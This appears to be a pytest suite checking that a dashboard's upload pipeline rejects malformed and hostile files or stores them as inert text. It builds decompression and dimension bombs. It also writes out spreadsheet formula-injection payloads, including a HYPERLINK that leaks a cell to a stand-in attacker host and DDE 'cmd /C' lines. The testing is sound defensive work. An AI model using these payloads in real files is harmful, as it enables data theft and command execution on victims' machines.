"""The hostile and malformed corpus: every file is rejected with a message naming the problem (and the
database is unchanged), or accepted with its text stored exactly as written, as inert text.

The corpus is tests/data/hostile/; EXPECTATIONS.csv lists each file, its table, the outcome and
either a fragment of the rejection message or the stored column whose text must round-trip.
Binary and XLSX files (made_by = fixture) are made here, so the repository holds no opaque blobs.
"""
from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from loads.pipeline import load_file
from tests.helpers import snapshot

CORPUS = Path(__file__).resolve().parent / "hostile"
EXPECTATIONS = list(csv.DictReader((CORPUS / "EXPECTATIONS.csv").open(encoding="utf-8")))
DATA_TABLES = ("organisation", "indicator", "target", "indicator_return", "milestone", "milestone_status",
               "risk", "commentary", "theme", "area", "action", "setting")
RETURNS = ["indicator", "period", "numerator", "denominator", "note"]
# The few files that exhaust memory or time only past the corpus's usual 0.5 MB limit (still small)
UPLOAD_LIMIT_MB = {"returns_two_million_columns.csv": "3", "returns_empty_rows_bomb.xlsx": "5"}


def workbook(rows: list[list], merge: str | None = None, far_cell: str | None = None) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    if merge:
        sheet.merge_cells(merge)
    if far_cell:
        sheet[far_cell] = "far away"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def damaged_workbook() -> bytes:
    """A real XLSX zip whose worksheet XML is cut off half-way."""
    good = zipfile.ZipFile(io.BytesIO(workbook([RETURNS, ["NI59", "2009-09", 5, 10, "x"]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as broken:
        for item in good.infolist():
            data = good.read(item)
            broken.writestr(item, data[: len(data) // 2] if item.filename.endswith("sheet1.xml") else data)
    return out.getvalue()


def with_sheet_data(rows_xml: bytes) -> bytes:
    """A real workbook whose first sheet's rows are replaced by `rows_xml` (as a hostile tool would write)."""
    good = zipfile.ZipFile(io.BytesIO(workbook([RETURNS])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as crafted:
        for item in good.infolist():
            data = good.read(item)
            if item.filename.endswith("sheet1.xml"):
                head, rest = data.split(b"<sheetData>", 1)
                data = head + b"<sheetData>" + rows_xml + b"</sheetData>" + rest.split(b"</sheetData>", 1)[1]
            crafted.writestr(item, data)
    return out.getvalue()


def hidden_first_sheet() -> bytes:
    """The first sheet (hidden) holds other figures than the visible, active one a person sees."""
    book = openpyxl.Workbook()
    hidden = book.active
    hidden.title = "old figures"
    hidden.append(RETURNS)
    hidden.append(["NI59", "2009-09", 1, 10, "from the hidden sheet"])
    hidden.sheet_state = "hidden"
    shown = book.create_sheet("September")
    shown.append(RETURNS)
    shown.append(["NI59", "2009-09", 7, 10, "what the person sees"])
    book.active = 1
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def fixture_files() -> dict[str, bytes]:
    big_row = "NI59,2009-09,5,10,padding " + "y" * 200 + "\n"
    return {
        "returns_utf16.csv": "indicator,period,numerator,denominator\nNI59,2009-09,5,10\n".encode("utf-16"),
        "returns_binary.csv": bytes(range(256)) * 40,
        "returns_png_renamed.csv": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200),
        "returns_huge.csv": (",".join(RETURNS) + "\n" + big_row * 3000).encode(),  # about 0.7 MB
        "returns_merged.xlsx": workbook([RETURNS, ["NI59", "2009-09", 5, 10, "a"], ["NI60", "2009-09", 5, 10, "b"]],
                                        merge="A3:B3"),
        "returns_formulas.xlsx": workbook([RETURNS, ["NI59", "2009-09", "=B2*2", 10, "=SUM(C2:D2)"]]),
        "returns_formula_in_note.xlsx": workbook([RETURNS, ["NI64", "2009-09", 5, 10,
                                                            '=HYPERLINK("http://evil.example","open me")']]),
        "returns_dimension_bomb.xlsx": workbook([RETURNS, ["NI65", "2009-09", 5, 10, "one real row"]],
                                                far_cell="XFD1048576"),
        "returns_damaged.xlsx": damaged_workbook(),
        "returns_old_format.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
        "targets_merged_header.xlsx": workbook([["indicator", "year", "target", "tolerance"], ["NI59", "2009-10", 78, 5]],
                                               merge="A1:B1"),
        "targets_utf16.csv": "indicator,year,target,tolerance\nNI59,2009-10,78,5\n".encode("utf-16"),
        "organisations_binary.csv": b"code,name,kind\n\x00\x00\x00\xff\xfe",
        "indicators_damaged.xlsx": b"PK\x03\x04" + bytes(300),
        "returns_nul_past_64k.csv": (",".join(RETURNS) + "\n" + "NI59,2009-09,5,10,x\n" * 4000).encode() + b"\x00\n",
        "returns_utf16_no_bom.csv": "indicator,period,numerator,denominator\nNI59,2009-09,5,10\n".encode("utf-16-le"),
        "returns_two_million_columns.csv": b"," * 1_999_999 + b"\n1\n",
        "returns_empty_rows_bomb.xlsx": with_sheet_data(b"".join(b'<row r="%d"/>' % i for i in range(1, 1_100_000))),
        "returns_wide_first_row.xlsx": with_sheet_data(b'<row r="1">' + b'<c t="inlineStr"><is><t>a</t></is></c>' * 20_000
                                                       + b"</row>"),
        "returns_hidden_first_sheet.xlsx": hidden_first_sheet(),
    }


@pytest.fixture(scope="module")
def made(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    for name, content in fixture_files().items():
        (folder / name).write_bytes(content)
    return folder


def expected_texts(path: Path) -> list[str]:
    """The text column's cells exactly as the file holds them (spaces at either end trimmed)."""
    if path.suffix == ".xlsx":
        sheet = openpyxl.load_workbook(path, read_only=True).active
        sheet.reset_dimensions()  # the dimension-bomb workbook declares a million rows by 16,384 columns
        rows = [list(row[:5]) for row in sheet.iter_rows(max_row=10, values_only=True) if row]
        column = rows[0].index("note")
        return sorted(str(r[column]).strip() for r in rows[1:] if r[column] is not None)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    column = {"returns": "note", "targets": "source", "organisations": "name", "indicators": "definition",
              "milestones": "commentary", "risks": "mitigation"}[path.name.split("_")[0]]
    return sorted(r[column].strip() for r in rows)


def test_the_corpus_and_its_table_agree():
    listed = {e["file"] for e in EXPECTATIONS if e["made_by"] == "file"}
    on_disk = {p.name for p in CORPUS.iterdir() if p.name != "EXPECTATIONS.csv"}
    assert listed == on_disk
    assert {e["file"] for e in EXPECTATIONS if e["made_by"] == "fixture"} == set(fixture_files())
    assert len(EXPECTATIONS) >= 30
    assert {e["table"] for e in EXPECTATIONS} >= {"returns", "targets", "organisations", "indicators",
                                                  "milestones", "risks"}


@pytest.mark.parametrize("case", EXPECTATIONS, ids=[e["file"] for e in EXPECTATIONS])
def test_a_hostile_file_is_rejected_by_name_or_stored_as_inert_text(case, request, made, monkeypatch):
    monkeypatch.setenv("PIDASH_MAX_UPLOAD_MB", UPLOAD_LIMIT_MB.get(case["file"], "0.5"))
    fresh_db = request.getfixturevalue("seeded_db" if case["table"] == "milestones" else "fresh_db")  # needs the plan
    path = (made if case["made_by"] == "fixture" else CORPUS) / case["file"]
    before = snapshot(fresh_db, DATA_TABLES)
    loads_before = fresh_db.execute("SELECT count(*) FROM load").fetchall()[0][0]

    outcome = load_file(fresh_db, case["table"], path, "hostile-test")

    assert fresh_db.execute("SELECT count(*) FROM load").fetchall()[0][0] == loads_before + 1
    if case["outcome"] == "rejected":
        assert outcome.status == "rejected"
        assert case["expect"] in outcome.report.text(), outcome.report.text()
        assert snapshot(fresh_db, DATA_TABLES) == before
        recorded = fresh_db.execute("SELECT status, loaded_by FROM load WHERE id = ?", [outcome.load_id]).fetchall()
        assert recorded == [("rejected", "hostile-test")]
    else:
        assert outcome.status == "accepted", outcome.report.text()
        table, column = case["expect"].split(".")
        stored = sorted(r[0] for r in fresh_db.execute(
            f"SELECT {column} FROM {table} WHERE load_id = ?", [outcome.load_id]).fetchall())
        assert stored == expected_texts(path)
        assert fresh_db.execute("SELECT count(*) FROM load").fetchall()[0][0] == loads_before + 1  # no table dropped


def test_stored_hostile_text_comes_back_byte_for_byte(fresh_db):
    """The exact strings of the injection file, checked one by one (not just as a set)."""
    outcome = load_file(fresh_db, "returns", CORPUS / "returns_csv_injection.csv", "hostile-test")
    rows = fresh_db.execute(
        "SELECT strftime(period, '%Y-%m'), note FROM indicator_return WHERE load_id = ? ORDER BY period",
        [outcome.load_id]).fetchall()
    assert rows == [
        ("2009-04", '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'),
        ("2009-05", "+cmd|' /C calc'!A0"),
        ("2009-06", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("2009-07", "-2+3+cmd|' /C notepad'!A0"),
        ("2009-08", "=1+1"),
    ]


def test_a_milestone_update_records_who_made_it(seeded_db):
    outcome = load_file(seeded_db, "milestones", CORPUS / "milestones_hostile_commentary.csv", "a.officer@example.gov.uk")
    assert outcome.status == "accepted", outcome.report.text()
    recorded = seeded_db.execute(
        "SELECT DISTINCT s.recorded_by, l.loaded_by FROM milestone_status s JOIN load l ON l.id = s.load_id "
        "WHERE s.load_id = ?", [outcome.load_id]).fetchall()
    assert recorded == [("a.officer@example.gov.uk", "a.officer@example.gov.uk")]


def test_a_tolerance_wider_than_its_target_is_accepted_with_a_warning(fresh_db, tmp_path):
    path = tmp_path / "targets.csv"
    path.write_text("indicator,year,target,tolerance\nNI59,2009-10,78,5\nNI62,2009-10,8,12\n")
    outcome = load_file(fresh_db, "targets", path, "hostile-test")
    assert outcome.status == "accepted"
    assert [(w.row, w.column, w.value) for w in outcome.report.warnings] == [(3, "tolerance", "12")]
    assert "the tolerance is larger than the target (8) for NI62 2009-10" in outcome.summary()
